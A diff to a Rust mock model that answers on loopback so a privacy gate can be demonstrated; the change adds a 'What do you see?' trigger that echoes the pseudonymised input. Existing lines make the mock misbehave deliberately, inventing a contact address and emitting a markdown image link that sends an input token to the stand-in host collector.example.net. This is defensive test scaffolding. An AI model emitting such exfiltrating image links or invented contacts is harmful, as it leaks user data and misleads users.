@@ -1,6 +1,7 @@
 //! The sample model: answers on loopback when no provider is configured, so that the gate can be tried without an account.
 //!
-//! It echoes what it was asked, so that one sees what a provider would have seen. It calls a tool when one is offered and asked for.
+//! It echoes what it was asked, so that one sees values put back. Asked `What do you see?`, it shows what reached it as well: pseudonyms
+//! with a hyphen, which nobody turns back. It calls a tool when one is offered and asked for.
 
 use std::convert::Infallible;
 use std::net::SocketAddr;
@@ -106,12 +107,16 @@ fn text(content: &Value) -> String {
     }
 }
 
+/// Asks the model to show what reached it.
+pub const SHOW: &str = "What do you see?";
+
 /// What the model says to a text. A few words make it misbehave on purpose, to show what the gate does about it.
 fn reply(said: &str) -> String {
     let invented = if said.contains("Invent a contact") { " Write to Jamie at jamie.invented@example.org." } else { "" };
     let image = said.split_whitespace().find(|word| word.contains('_') && word.len() > 12).filter(|_| said.contains("Draw it"));
     let image = image.map(|word| format!(" ![chart](https://collector.example.net/draw?d={word})")).unwrap_or_default();
-    format!("You said: {said}{invented}{image}")
+    let seen = said.strip_suffix(SHOW).map(|seen| format!(" What reached me: {}", seen.trim_end().replace('_', "-"))).unwrap_or_default();
+    format!("You said: {said}{invented}{image}{seen}")
 }
 
 /// A call of the first tool, when tools are offered and the text asks to use one.
